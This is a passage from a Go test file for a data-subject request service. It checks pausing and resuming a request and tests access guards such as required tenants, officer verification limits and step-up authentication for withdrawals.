	if _, err := h.dsr().PauseRequest(h.officer(), &consentv1.PauseRequestRequest{RequestId: id, Reason: consentv1.PauseReason_PAUSE_REASON_CLARIFICATION_REQUESTED}); err != nil {
		t.Fatal(err)
	}
	if _, err := h.dsr().ResumeRequest(h.officer(), &consentv1.ResumeRequestRequest{RequestId: id}); err != nil {
		t.Fatal(err)
	}
	for range 200 {
		g, err := h.dsr().GetRequest(h.officer(), &consentv1.GetRequestRequest{RequestId: id})
		if err != nil {
			t.Fatal(err)
		}
		if g.GetRequest().GetState() == consentv1.RequestState_REQUEST_STATE_COMPLETED {
			return
		}
		h.clk.Advance(2 * time.Second)
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("the resumed request never completed")
}

// TestDataSubjectRequestGuards: an officer's request must name the
// customer's shop (one without would reach nobody's data and complete);
// a customer withdraws their request only at aal2, like asking.
func TestDataSubjectRequestGuards(t *testing.T) {
	h := sqlite(t)
	_, err := h.dsr().CreateRequest(h.officer(), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE,
		Subject: "cus_1", Jurisdiction: "DE", RequestKey: "no-tenant"})
	wantErr(t, "officer without tenant", err, codes.InvalidArgument, reasons.TenantRequired)
	off := h.create(t, h.officer(), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ACCESS,
		Tenant: "shop", Subject: "cus_3", RequestKey: "o"})
	_, err = h.dsr().VerifyRequest(h.officer(), &consentv1.VerifyRequestRequest{RequestId: off.GetRequestId(),
		Method: consentv1.VerificationMethod_VERIFICATION_METHOD_AUTHENTICATED_SESSION})
	wantErr(t, "officer claiming the subject's own session", err, codes.InvalidArgument, reasons.RequestInvalid)

	h.parts["identity"].set(func(p *standIn) { p.failAlways = true }) // keep it open
	r := h.create(t, h.customer2("cus_2"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE, RequestKey: "e"})
	_, err = h.dsr().RejectRequest(h.customer("cus_2"), &consentv1.RejectRequestRequest{RequestId: r.GetRequestId(),
		Reason: consentv1.RejectionReason_REJECTION_REASON_WITHDRAWN_BY_SUBJECT})
	wantErr(t, "withdrawal at aal1", err, codes.FailedPrecondition, enduser.ReasonStepUpRequired)
	g, err := h.dsr().GetRequest(h.officer(), &consentv1.GetRequestRequest{RequestId: r.GetRequestId()})
	if err != nil || g.GetRequest().GetState() == consentv1.RequestState_REQUEST_STATE_REJECTED {
		t.Fatalf("after a refused withdrawal: %v %v", g, err)
	}
}
